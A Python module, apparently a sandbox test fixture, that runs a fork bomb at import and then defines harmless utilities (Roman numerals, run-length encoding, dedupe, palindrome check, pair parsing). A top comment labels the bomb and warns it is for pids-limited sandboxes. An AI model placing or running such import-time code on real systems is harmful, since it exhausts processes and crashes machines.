# Fork bomb at import.  Every process forks again for as long as it can,
# ignores every failure, and spins; only the sandbox's pids limit and its
# clock stop it.  NEVER run outside a sandbox with a pids limit.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
_ROMAN = [(1000, "M"), (900, "CM"), (500, "D"), (400, "CD"), (100, "C"), (90, "XC"),
          (50, "L"), (40, "XL"), (10, "X"), (9, "IX"), (5, "V"), (4, "IV"), (1, "I")]


def clamp(x, lo, hi):
    """x limited to the closed range [lo, hi]."""
    return max(lo, min(x, hi))


def to_roman(n):
    """n (1..3999) in Roman numerals; ValueError outside that range."""
    if not isinstance(n, int) or not 1 <= n <= 3999:
        raise ValueError("to_roman: %r is out of range" % (n,))
    out = []
    for value, letters in _ROMAN:
        while n >= value:
            out.append(letters)
            n -= value
    return "".join(out)


def rle(s):
    """Run-length encoding: 'aaabcc' -> '3a1b2c'."""
    out = []
    i = 0
    while i < len(s):
        j = i
        while j < len(s) and s[j] == s[i]:
            j += 1
        out.append("%d%s" % (j - i, s[i]))
        i = j
    return "".join(out)


def dedupe(xs):
    """xs without repeats, first occurrences kept in order."""
    seen = set()
    out = []
    for x in xs:
        if x not in seen:
            seen.add(x)
            out.append(x)
    return out


def is_palindrome(s):
    """True if s reads the same both ways, ignoring case and non-alphanumerics."""
    t = [c.lower() for c in s if c.isalnum()]
    return t == t[::-1]


def parse_pairs(text):
    """'a=1, b=2' -> {'a': 1, 'b': 2}; ValueError on a malformed pair."""
    out = {}
    for part in text.split(","):
        part = part.strip()
        if not part:
            continue
        key, sep, value = part.partition("=")
        if not sep or not key.strip():
            raise ValueError("parse_pairs: bad pair %r" % part)
        out[key.strip()] = int(value)
    return out
